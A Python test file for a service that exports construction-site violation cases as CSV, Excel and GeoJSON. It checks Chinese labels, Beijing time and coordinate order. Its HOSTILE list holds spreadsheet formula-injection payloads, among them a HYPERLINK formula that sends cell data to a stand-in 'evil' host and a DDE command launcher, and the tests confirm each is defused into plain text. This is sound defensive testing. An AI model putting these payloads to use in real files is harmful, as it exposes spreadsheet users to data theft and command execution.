"""Exports: every case once, Chinese as it is, and hostile text as nothing but text."""

import csv
import io
import json
import tempfile
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from service.domain.cases import CaseState
from service.errors import TooManyCases
from service.exports.case_table import HEADS
from service.exports.csv_file import csv_parts
from service.exports.geojson import geojson_parts
from service.exports.spreadsheet_text import LONGEST, defused, one_line
from service.exports.xlsx_file import xlsx_file
from service.storage.case_list import CaseLine
from tests.service.made_cases import MORNING

LINE = CaseLine(
    id=7,
    key="3f1d2c84-0000-4000-8000-000000000007",
    rule="unwashed_truck",
    state=CaseState.ASSIGNED,
    site_id="east",
    site_name="江东一号",
    camera_id="east-gate",
    camera_name="大门",
    opened_at=MORNING,
    received_at=MORNING,
    due_at=None,
    assigned_to="某建设集团",
    changed_by="赵主任",
    version=2,
    measures={"wash_seconds": 4.2},
    district="江东区",
    street="河东街道",
    category="construction",
    level="A",
    latitude=31.98,
    longitude=118.79,
)
HOSTILE = (
    '=HYPERLINK("http://evil/"&A1,"x")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\r\n=1+1",
    "　＝1+1",
    "\ufeff=1",
    'a","b\r\n=1',
    "a\x00\x1b\ud800<script>",
    "x" * 40_000,
)


def read_csv(lines):
    content = b"".join(csv_parts(lines))
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def read_xlsx(lines):
    with xlsx_file(lines) as file:
        return list(load_workbook(file)["案件 cases"].iter_rows())


def named(cells):
    return dict(zip(HEADS, cells, strict=True))


def test_csv_tells_a_case_in_chinese_and_by_beijing_time():
    heads, cells = read_csv([LINE])
    assert tuple(heads) == HEADS
    told = named(cells)
    assert told["违规 rule"] == "车辆未冲洗"
    assert told["状态 state"] == "已交办"
    assert told["类别 category"] == "建筑工地"
    assert told["发现时间 found at"] == "2026-03-02 09:00:00"
    assert told["办理期限 due at"] == ""
    assert told["实测 measures"].endswith("4.2 秒")


@pytest.mark.parametrize("hostile", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_text_is_one_harmless_cell_in_csv(hostile):
    rows = read_csv([replace(LINE, site_name=hostile, assigned_to=hostile), LINE])
    assert [len(row) for row in rows] == [len(HEADS)] * 3
    for cell in rows[1]:
        assert cell.lstrip(" \ufeff　\u200b")[:1] not in {"=", "+", "-", "@", "＝", "\t"} or cell.startswith("-")
        assert "\n" not in cell
    assert named(rows[1])["工地 site name"].lstrip("'") == one_line(hostile)


@pytest.mark.parametrize("hostile", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_text_is_text_in_a_workbook(hostile):
    rows = read_xlsx([replace(LINE, site_name=hostile, camera_name=hostile)])
    cells = named(rows[1])
    assert cells["工地 site name"].data_type == "s"
    assert cells["工地 site name"].value == one_line(hostile)
    assert all(cell.data_type != "f" for row in rows for cell in row)
    assert cells["发现时间 found at"].value.isoformat() == "2026-03-02T09:00:00"


def test_a_workbook_that_would_be_too_large_is_refused_and_leaves_no_file(tmp_path, monkeypatch):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    lines = [LINE] * 3
    xlsx_file(lines, most=3).close()
    with pytest.raises(TooManyCases, match="more than 2 cases"):
        xlsx_file(lines, most=2)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("count", [0, 1, 500, 501, 1001])
def test_geojson_is_whole_whatever_its_length(count):
    told = json.loads(b"".join(geojson_parts([replace(LINE, id=number) for number in range(count)])))
    assert told["type"] == "FeatureCollection"
    assert [feature["id"] for feature in told["features"]] == list(range(count))


def test_geojson_has_longitude_first_and_no_point_where_none_is_known():
    told = json.loads(b"".join(geojson_parts([LINE, replace(LINE, latitude=None, longitude=None)])))
    known, unknown = told["features"]
    assert known["geometry"] == {"type": "Point", "coordinates": [118.79, 31.98]}
    assert known["properties"]["opened_at"] == "2026-03-02T01:00:00+00:00"
    assert known["properties"]["site_name"] == "江东一号"
    assert unknown["geometry"] is None


@given(st.text())
def test_no_text_begins_a_formula_or_breaks_a_line(text):
    made = defused(text)
    assert made[:1] not in {*"=+-@＝＋－＠", "\t", "\r", "\n"}
    assert made.lstrip()[:1] not in set("=+-@")
    assert len(made.splitlines()) <= 1
    assert len(made) <= LONGEST + 1
    made.encode()
